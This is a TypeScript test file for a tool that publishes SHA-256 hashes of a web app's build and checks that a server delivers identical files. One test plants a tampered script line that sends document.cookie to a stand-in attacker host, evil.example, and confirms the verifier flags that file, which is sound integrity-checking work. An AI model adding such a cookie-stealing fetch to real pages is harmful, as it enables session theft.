import { execFileSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildDigest, formatHashes, hashApp, parseHashes, servedPath, verifyServed, writeHashes } from './appHashes.ts';

let dir: string;
let server: Server;
let origin: string;
/** What the little server serves instead of the build, per path. */
const served = new Map<string, string>();

beforeAll(async () => {
  dir = join(mkdtempSync(join(tmpdir(), 'sd-hashes-')), 'pwa');
  mkdirSync(join(dir, 'assets'), { recursive: true });
  writeFileSync(join(dir, 'index.html'), '<!doctype html><title>Stop Deal</title>');
  writeFileSync(join(dir, 'sw.js'), 'self.skipWaiting()');
  writeFileSync(join(dir, 'assets', 'index-abc.js'), 'console.log(1)');
  writeFileSync(join(dir, 'assets', 'B.css'), 'body{}');
  writeFileSync(join(dir, '_headers'), '/*\n  X-Frame-Options: DENY\n');
  server = createServer((req, res) => {
    const body = served.get(req.url ?? '');
    if (body === undefined) {
      res.statusCode = 404;
      return res.end();
    }
    res.end(body);
  });
  await new Promise<void>((ok) => server.listen(0, '127.0.0.1', ok));
  const addr = server.address();
  origin = `http://127.0.0.1:${typeof addr === 'object' && addr ? addr.port : 0}`;
});
afterAll(() => {
  server?.close();
  rmSync(join(dir, '..'), { recursive: true, force: true });
});

function serveBuild() {
  served.clear();
  for (const f of hashApp(dir)) served.set(servedPath(f.path), readFileSync(join(dir, f.path), 'utf8'));
}

describe('published build hashes', () => {
  it('lists every file with its SHA-256, sorted by path, exactly as sha256sum writes it', () => {
    const files = hashApp(dir);
    expect(files.map((f) => f.path)).toEqual(['_headers', 'assets/B.css', 'assets/index-abc.js', 'index.html', 'sw.js']);
    const digest = writeHashes(dir);
    const written = readFileSync(`${dir}.sha256`, 'utf8');
    expect(written).toBe(formatHashes(files));
    expect(digest).toBe(buildDigest(files));
    // The same text as the standard tool, run from the app folder.
    const tool = execFileSync('sha256sum', files.map((f) => f.path), { cwd: dir, encoding: 'utf8' });
    expect(written).toBe(tool);
    expect(parseHashes(written)).toEqual(files);
  });

  it('refuses a malformed list, naming the line', () => {
    expect(() => parseHashes(`${'a'.repeat(64)}  ok.js\nnot a hash line\n`)).toThrow('line 2 is not');
    expect(() => parseHashes(`${'A'.repeat(64)}  upper.js\n`)).toThrow('line 1');
  });

  it('serves index.html at the root, other files at their own encoded path', () => {
    expect(servedPath('index.html')).toBe('/');
    expect(servedPath('assets/a b.js')).toBe('/assets/a%20b.js');
  });

  it('finds every served file identical when the origin serves the build, skipping _headers', async () => {
    serveBuild();
    const { checked, mismatches } = await verifyServed(origin, hashApp(dir));
    expect(checked).toBe(4);
    expect(mismatches).toEqual([]);
  });

  it('names a changed file and a missing one', async () => {
    serveBuild();
    served.set('/assets/index-abc.js', 'console.log(1); fetch("https://evil.example/?" + document.cookie)');
    served.delete('/sw.js');
    const { mismatches } = await verifyServed(origin, hashApp(dir));
    expect(mismatches.map((m) => [m.path, m.problem])).toEqual([
      ['assets/index-abc.js', 'different'],
      ['sw.js', 'missing'],
    ]);
    expect(mismatches[1]!.detail).toBe('HTTP 404');
  });
});
